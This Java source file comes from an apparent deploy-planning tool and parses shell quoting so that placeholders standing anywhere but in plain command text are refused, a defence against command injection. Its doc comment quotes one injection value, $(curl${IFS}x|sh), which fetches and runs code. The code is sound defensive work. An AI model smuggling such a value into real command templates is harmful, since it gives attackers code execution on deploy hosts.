package dev.bluegreen.deployplan;

import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import java.util.Optional;
import java.util.regex.MatchResult;

/**
 * Where a deploy step's placeholders stand, as the shell reads the step. A value is filled in as one single-quoted
 * word, which the shell takes literally only where the placeholder stands in plain command text. Inside double quotes
 * its quotes are plain characters and {@code $(...)} in the value runs; inside single quotes its own quotes end them;
 * after a backslash its opening quote is a plain character; after a {@code $} its quotes become bash's {@code $'...'};
 * a here-document, backticks, {@code ${...}} and {@code $((...))} read it again. So a placeholder anywhere but in plain
 * command text is refused at start-up, whatever the value: {@code echo "{{ref}}" > REVISION} with the ref
 * {@code $(curl${IFS}x|sh)} would run the download.
 *
 * <p>This is a reader of POSIX sh as far as quoting goes, not a full parser: it follows quotes, escapes, comments,
 * command substitutions, parameter and arithmetic expansions, backticks and here-documents.
 */
final class PlaceholderContexts {

    private enum Context {
        COMMAND(null), SINGLE("inside single quotes, where the quotes of its value would end them"),
        ANSI("inside $'...' quotes, where the quotes of its value would end them"),
        DOUBLE("inside double quotes, where its value's quotes are plain characters and $(...) in it would run"),
        BACKTICKS("inside backticks, which read their text a second time"),
        PARAMETER("inside ${...}, which reads its text a second time"),
        ARITHMETIC("inside $((...)), which reads its text as a number");

        private final String where;

        Context(String where) {
            this.where = where;
        }
    }

    /** Stands for a placeholder while the template is read: a private-use character, which no shell reads as more. */
    private static final char PLACEHOLDER = '\uE000';

    private static final String HERE_DOCUMENT = "inside a here-document, where $(...) in its value would run";

    private static final String AFTER_BACKSLASH = "right after a backslash, which makes its value's opening quote a "
            + "plain character";

    private static final String AFTER_DOLLAR = "right after a $, which makes its value's quotes bash's $'...', "
            + "where backslashes in it are escapes";

    /** One open context, and how many plain parentheses are open in it. */
    private static final class Frame {
        private final Context context;
        private int parentheses;

        Frame(Context context) {
            this.context = context;
        }
    }

    private record HereDocument(String delimiter, boolean tabsStripped) {
    }

    /** A placeholder where the shell would not take its value literally, and where it stands, as words. */
    record Misplaced(String placeholder, String name, String where) {
    }

    private final List<MatchResult> placeholders;
    private final String template;
    private final Deque<Frame> open = new ArrayDeque<>();
    private final List<HereDocument> hereDocuments = new ArrayList<>();
    private int at;

    private PlaceholderContexts(String template) {
        this.placeholders = CommandTemplate.PLACEHOLDER.matcher(template).results().toList();
        // a private-use character of the template's own is a plain letter to the shell, as any other
        this.template = CommandTemplate.PLACEHOLDER.matcher(template.replace(PLACEHOLDER, 'x'))
                .replaceAll(String.valueOf(PLACEHOLDER));
        open.push(new Frame(Context.COMMAND));
    }

    /**
     * The first placeholder of {@code template} that does not stand in plain command text, with where it stands, as
     * the end of a sentence that starts with the placeholder: {@code inside double quotes, where ...}.
     */
    static Optional<Misplaced> firstMisplaced(String template) {
        return new PlaceholderContexts(template).read();
    }

    private Optional<Misplaced> read() {
        while (at < template.length()) {
            Optional<Misplaced> misplaced = template.charAt(at) == PLACEHOLDER ? placeholder() : step();
            if (misplaced.isPresent()) {
                return misplaced;
            }
        }
        return Optional.empty();
    }

    private Optional<Misplaced> placeholder() {
        Context context = open.peek().context;
        if (context != Context.COMMAND) {
            return misplaced(at, context.where);
        }
        if (at > 0 && template.charAt(at - 1) == '$') {
            return misplaced(at, AFTER_DOLLAR);
        }
        at++;
        return Optional.empty();
    }

    /** Reads what stands at {@link #at} and moves past it. */
    private Optional<Misplaced> step() {
        Frame frame = open.peek();
        char c = template.charAt(at);
        switch (frame.context) {
            case SINGLE -> {
                if (c == '\'') {
                    open.pop();
                }
                at++;
            }
            case ANSI -> {
                if (c == '\\') {
                    return escape();
                }
                if (c == '\'') {
                    open.pop();
                }
                at++;
            }
            case DOUBLE -> {
                if (c == '\\') {
                    return escape();
                }
                if (c == '"') {
                    open.pop();
                    at++;
                }
                else if (!expansion()) {
                    at++;
                }
            }
            default -> {
                return code(frame, c);
            }
        }
        return Optional.empty();
    }

    /** A backslash and the character it escapes. */
    private Optional<Misplaced> escape() {
        if (at + 1 < template.length() && template.charAt(at + 1) == PLACEHOLDER) {
            return misplaced(at + 1, AFTER_BACKSLASH);
        }
        at += 2;
        return Optional.empty();
    }

    /** Plain command text, or the text of backticks, {@code ${...}} or {@code $((...))}. */
    private Optional<Misplaced> code(Frame frame, char c) {
        if (c == '\\') {
            return escape();
        }
        if (c == '\n' && !hereDocuments.isEmpty()) {
            at++;
            return hereDocumentBodies();
        }
        if (starts("<<") && !starts("<<<") && frame.context == Context.COMMAND) {
            return hereDocument();
        }
        if (c == '\'') {
            at += enter(Context.SINGLE, 1);
        }
        else if (starts("$'")) {
            at += enter(Context.ANSI, 2);
        }
        else if (c == '"') {
            at += enter(Context.DOUBLE, 1);
        }
        else if (expansion()) {
            return Optional.empty();
        }
        else if (c == '`' && frame.context == Context.BACKTICKS) {
            open.pop();
            at++;
        }
        else if (c == '`') {
            at += enter(Context.BACKTICKS, 1);
        }
        else if (c == '(') {
            frame.parentheses++;
            at++;
        }
        else if (c == ')' && frame.parentheses > 0) {
            frame.parentheses--;
            at++;
        }
        else if (c == ')' && frame.context == Context.ARITHMETIC && starts("))")) {
            open.pop();
            at += 2;
        }
        else if (c == ')' && frame.context == Context.COMMAND && open.size() > 1) {
            open.pop(); // the end of a $(...)
            at++;
        }
        else if (c == '}' && frame.context == Context.PARAMETER) {
            open.pop();
            at++;
        }
        else if (c == '#' && frame.context == Context.COMMAND && wordStarts()) {
            while (at < template.length() && template.charAt(at) != '\n') {
                at++; // a comment: nothing in it runs
            }
        }
        else {
            at++;
        }
        return Optional.empty();
    }

    /** Enters {@code $(...)}, {@code $((...))}, {@code ${...}}, or backticks inside double quotes, if one begins. */
    private boolean expansion() {
        if (starts("$((")) {
            at += enter(Context.ARITHMETIC, 3);
        }
        else if (starts("$(")) {
            at += enter(Context.COMMAND, 2);
        }
        else if (starts("${")) {
            at += enter(Context.PARAMETER, 2);
        }
        else if (starts("`") && open.peek().context == Context.DOUBLE) {
            at += enter(Context.BACKTICKS, 1);
        }
        else {
            return false;
        }
        return true;
    }

    private int enter(Context context, int length) {
        open.push(new Frame(context));
        return length;
    }

    private boolean starts(String text) {
        return template.startsWith(text, at);
    }

    private boolean wordStarts() {
        return at == 0 || " \t\n;&|()".indexOf(template.charAt(at - 1)) >= 0;
    }

    /** {@code <<WORD}, {@code <<-WORD}, {@code <<'WORD'}: its body begins on the next line. */
    private Optional<Misplaced> hereDocument() {
        at += 2;
        boolean tabsStripped = starts("-");
        if (tabsStripped) {
            at++;
        }
        while (at < template.length() && (template.charAt(at) == ' ' || template.charAt(at) == '\t')) {
            at++;
        }
        StringBuilder delimiter = new StringBuilder();
        while (at < template.length() && " \t\n;&|<>()".indexOf(template.charAt(at)) < 0) {
            char c = template.charAt(at++);
            if (c == PLACEHOLDER) {
                return misplaced(at - 1, HERE_DOCUMENT);
            }
            if (c != '\'' && c != '"' && c != '\\') {
                delimiter.append(c);
            }
        }
        hereDocuments.add(new HereDocument(delimiter.toString(), tabsStripped));
        return Optional.empty();
    }

    /** The bodies of the here-documents begun on the line that just ended: no placeholder may stand in them. */
    private Optional<Misplaced> hereDocumentBodies() {
        for (HereDocument document : hereDocuments) {
            while (at < template.length()) {
                int end = template.indexOf('\n', at);
                String line = template.substring(at, end < 0 ? template.length() : end);
                if (line.indexOf(PLACEHOLDER) >= 0) {
                    return misplaced(at + line.indexOf(PLACEHOLDER), HERE_DOCUMENT);
                }
                at = end < 0 ? template.length() : end + 1;
                String compared = document.tabsStripped() ? line.replaceFirst("^\t+", "") : line;
                if (compared.equals(document.delimiter())) {
                    break;
                }
            }
        }
        hereDocuments.clear();
        return Optional.empty();
    }

    /** The placeholder at {@code index} of the template as read, which is the n-th placeholder of the original. */
    private Optional<Misplaced> misplaced(int index, String where) {
        int before = (int) template.substring(0, index).chars().filter(c -> c == PLACEHOLDER).count();
        MatchResult placeholder = placeholders.get(before);
        return Optional.of(new Misplaced(placeholder.group(), placeholder.group(1), where));
    }
}
